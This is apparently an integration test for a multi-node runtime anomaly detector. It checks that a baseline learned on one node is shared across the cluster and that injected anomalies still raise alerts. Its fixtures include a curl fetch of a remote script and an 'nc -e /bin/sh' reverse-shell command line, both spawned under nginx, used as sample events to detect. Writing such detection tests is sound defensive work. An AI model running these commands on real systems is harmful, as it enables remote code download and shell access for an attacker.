/**
 * Three nodes, one collector, all real processes: what one node learned is not news on the others,
 * while each node's own anomaly is. Node 1 learns first; nodes 2 and 3 start later and get the
 * cluster's baseline when they connect, so they enforce at once instead of learning from zero.
 */
import test from 'ava';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { at, falcoLine } from '../helpers/falco.js';
import { getJson, spawnCli, spawnCollector, type CliProcess } from '../helpers/processes.js';

const nginx = (minute: number) => falcoLine({ time: at(minute) });
/** Learned on node 1 only: the image's entrypoint scripts, run once at start-up. */
const entrypoint = (minute: number) =>
  falcoLine({ time: at(minute), fields: { 'proc.exepath': '/usr/bin/find', 'proc.name': 'find', 'proc.cmdline': 'find /docker-entrypoint.d/ -mindepth 1', 'proc.pname': 'sh', 'proc.pid': 5000 + minute } });
const curl = (minute: number) =>
  falcoLine({ time: at(minute), fields: { 'proc.exepath': '/usr/bin/curl', 'proc.name': 'curl', 'proc.cmdline': 'curl -s http://203.0.113.50/x.sh', 'proc.pname': 'nginx', 'proc.pexepath': '/usr/sbin/nginx', 'proc.pid': 6000 + minute } });
const netcat = (minute: number) =>
  falcoLine({ time: at(minute), fields: { 'proc.exepath': '/usr/bin/nc', 'proc.name': 'nc', 'proc.cmdline': 'nc -e /bin/sh 198.51.100.7 4444', 'proc.pname': 'nginx', 'proc.pexepath': '/usr/sbin/nginx', 'proc.pid': 7000 + minute } });

function agent(t: import('ava').ExecutionContext, dir: string, node: string, lines: string[], grpcPort: number): CliProcess {
  const file = join(dir, `${node}.json`);
  writeFileSync(file, `${lines.join('\n')}\n`);
  return spawnCli(t, [
    'agent', '--source', `replay:${file}`, '--collector', `127.0.0.1:${grpcPort}`, '--node', node,
    '--state-dir', join(dir, node), '--learning-window', '1h', '--http-listen', '127.0.0.1:0', '--exit-when-done',
  ]);
}

test('behaviour learned on one node raises nothing on the others; each injected anomaly raises its alert', async (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'dw-multinode-'));
  t.teardown(() => rmSync(dir, { recursive: true, force: true }));
  const collector = await spawnCollector(t, join(dir, 'collector.db'));

  // Node 1 learns for an hour of event time (nginx, and its entrypoint scripts), then enforces.
  const first = agent(t, dir, 'node-1', [nginx(0), entrypoint(1), nginx(20), nginx(61)], collector.grpcPort);
  t.is(await first.exited, 0, first.stderr);

  // Nodes 2 and 3 start later, both run the entrypoint scripts they never saw, and one anomaly each.
  const second = agent(t, dir, 'node-2', [nginx(100), entrypoint(101), curl(102)], collector.grpcPort);
  const third = agent(t, dir, 'node-3', [nginx(100), entrypoint(101), netcat(103)], collector.grpcPort);
  t.deepEqual(await Promise.all([second.exited, third.exited]), [0, 0], second.stderr + third.stderr);
  for (const p of [second, third]) {
    const synced = await p.waitForLog((l) => l.msg === 'cluster baselines received');
    t.true((synced.baselines as number) >= 1, 'started from the cluster baseline');
  }

  const alerts = (await getJson<{ items: { summary: string; nodes: string[]; severity: string }[] }>(`${collector.url}/api/v1/alerts`)).items;
  t.deepEqual(
    alerts.map((a) => [a.summary, a.nodes, a.severity]).sort(),
    [
      ['/usr/bin/curl -s http://<ip>/x.sh (parent nginx, root)', ['node-2'], 'high'],
      ['/usr/bin/nc -e /bin/sh <ip> <num> (parent nginx, root)', ['node-3'], 'critical'], // netcat-exec: nc -e hands a shell to whoever connects
    ],
  );
  const baseline = await getJson<{ state: string; nodes: string[]; entries: { exe: string; nodes: string[] }[] }>(`${collector.url}/api/v1/baselines/${encodeURIComponent('docker.io/library/nginx')}`);
  t.is(baseline.state, 'enforcing');
  t.deepEqual(baseline.entries.find((e) => e.exe === '/usr/bin/find')?.nodes.sort(), ['node-1', 'node-2', 'node-3'], 'the other nodes saw it as known and counted it');
  t.false(baseline.entries.some((e) => e.exe === '/usr/bin/curl' || e.exe === '/usr/bin/nc'), 'no node taught the cluster its anomaly');
});

/** A batch job's connection to an object store: each one a new address somewhere in 52.216.0.0/16. */
const store = (minute: number, address: string, pid = 8000) =>
  falcoLine({ time: at(minute), type: 'connect', fields: { 'proc.pid': pid + Math.round(minute), 'fd.name': `10.244.1.9:${40000 + Math.round(minute * 10)}->${address}:443`, 'fd.l4proto': 'tcp' } });

test('a block one node generalized from many addresses is flagged with its evidence and quiet on the other nodes', async (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'dw-multinode-gen-'));
  t.teardown(() => rmSync(dir, { recursive: true, force: true }));
  const collector = await spawnCollector(t, join(dir, 'collector.db'));
  const learned = ['52.216.1.5', '52.216.77.2', '52.216.130.9', '52.216.200.9', '52.216.13.7', '52.216.250.1', '52.216.99.3', '52.216.45.45'];
  const first = agent(t, dir, 'node-1', [nginx(0), ...learned.map((a, i) => store(2 + i, a)), nginx(61)], collector.grpcPort);
  t.is(await first.exited, 0, first.stderr);
  // Node 2, later: fresh addresses of the same store (known through the pushed block), and one elsewhere.
  const fresh = ['52.216.3.3', '52.216.180.4', '52.216.222.1', '52.216.64.64'];
  const second = agent(t, dir, 'node-2', [nginx(100), ...fresh.map((a, i) => store(101 + i, a)), store(110, '203.0.113.99')], collector.grpcPort);
  t.is(await second.exited, 0, second.stderr);
  const alerts = (await getJson<{ items: { summary: string }[] }>(`${collector.url}/api/v1/alerts`)).items;
  t.deepEqual(alerts.map((a) => a.summary), ['egress tcp 203.0.113.99:443']);
  const baseline = await getJson<{ entries: { id: string; status: string; statusReason: string; generalization: unknown }[] }>(`${collector.url}/api/v1/baselines/${encodeURIComponent('docker.io/library/nginx')}`);
  const block = baseline.entries.find((e) => e.id === 'egress|tcp|52.216.0.0/16|443');
  t.like(block, { status: 'flagged', generalization: { kind: 'block', prefixLength: 16, addresses: 8, prefixes: [{ length: 24, count: 8 }, { length: 16, count: 1 }] } });
  t.regex(block?.statusReason ?? '', /^generalized \(wide block\): 8 addresses/);
  t.is(baseline.entries.find((e) => e.id.startsWith('exec|'))?.generalization, null);
});
